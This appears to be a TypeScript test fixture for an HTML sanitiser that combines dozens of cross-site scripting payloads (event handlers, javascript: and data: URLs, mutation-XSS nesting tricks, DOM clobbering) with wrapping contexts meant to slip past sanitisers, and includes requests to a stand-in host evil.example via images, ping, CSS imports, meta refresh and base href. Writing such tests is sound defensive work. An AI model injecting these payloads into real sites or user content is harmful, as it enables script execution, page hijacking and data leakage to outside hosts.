// HTML that tries to run scripts, send requests to foreign hosts or take over parts of the page.

const elements = (run: string): string[] => [
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="https://evil.example/a.png">`,
  `<img srcset="https://evil.example/b.png 1x" src="/x.svg">`,
  `<svg onload="${run}"><circle r=9 /></svg>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}">`,
  `<a href="javascript:${run}">link</a>`,
  `<a href="JaVaScRiPt&colon;${run}">link</a>`,
  `<a href=" &#1; javascript:${run}">link</a>`,
  `<a href="data:text/html,<script>${run}</script>">link</a>`,
  `<a href="//evil.example" target="_self" ping="https://evil.example/p">link</a>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<object data="javascript:${run}"></object><embed src="javascript:${run}">`,
  `<form action="https://evil.example"><input name=q autofocus onfocus="${run}"><button>go</button></form>`,
  `<style>@import url(https://evil.example/c.css); body { display: none }</style>`,
  `<link rel=stylesheet href="https://evil.example/d.css"><meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/e.png)">over</div>`,
  `<div id="shop" name="body" class="btn" onclick="${run}" tabindex=0>clobber</div>`,
  `<details open ontoggle="${run}"><summary>s</summary></details>`,
  `<video src="https://evil.example/v.mp4" autoplay onloadstart="${run}"></video><audio src=x onerror="${run}">`,
  `<template><script>${run}</script></template><noscript><img src=x onerror="${run}"></noscript>`,
  `<select><option><iframe onload="${run}"></select><textarea><img src=x onerror="${run}"></textarea>`,
  `<table background="https://evil.example/f.png"><td><marquee onstart="${run}">m</marquee></table>`,
  `<p>ok</p><!--><img src=x onerror="${run}">--><![CDATA[<img src=x onerror="${run}">]]>`,
];
/** Contexts that can hide such markup from a sanitiser. */
const wrappings: ((inner: string) => string)[] = [
  (inner) => inner,
  (inner) => `<p>before ${inner} after</p>`,
  (inner) => `<b title="${inner.replaceAll('"', '&quot;')}">${inner}`,
  (inner) => `<noscript><p title="</noscript>${inner}">`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<svg></p><style><g title="</style>${inner}">`,
  (inner) => `<table><caption><svg><desc>${inner}</desc></svg></table>`,
  (inner) => `${'<div>'.repeat(600)}${inner}`,
  (inner) => `<a href="/c/tvs"><textarea>${inner}</textarea></a>`,
  (inner) => `<x-y is="z">${inner}</x-y><slot name=a>${inner}</slot>`,
  (inner) => `<ul><li>${inner}<ol>${inner}</ul></li>`,
  (inner) => inner.replaceAll('<', '<\u0000').replaceAll('=', ' = '),
  (inner) => inner.replaceAll('on', 'ON').replaceAll('<', '</x><'),
];
/**
 * Combines every element with every wrapping.
 * @param run script that the markup tries to run
 */
export const hostileHtml = (run: string): string[] => wrappings.flatMap((wrap) => elements(run).map(wrap));
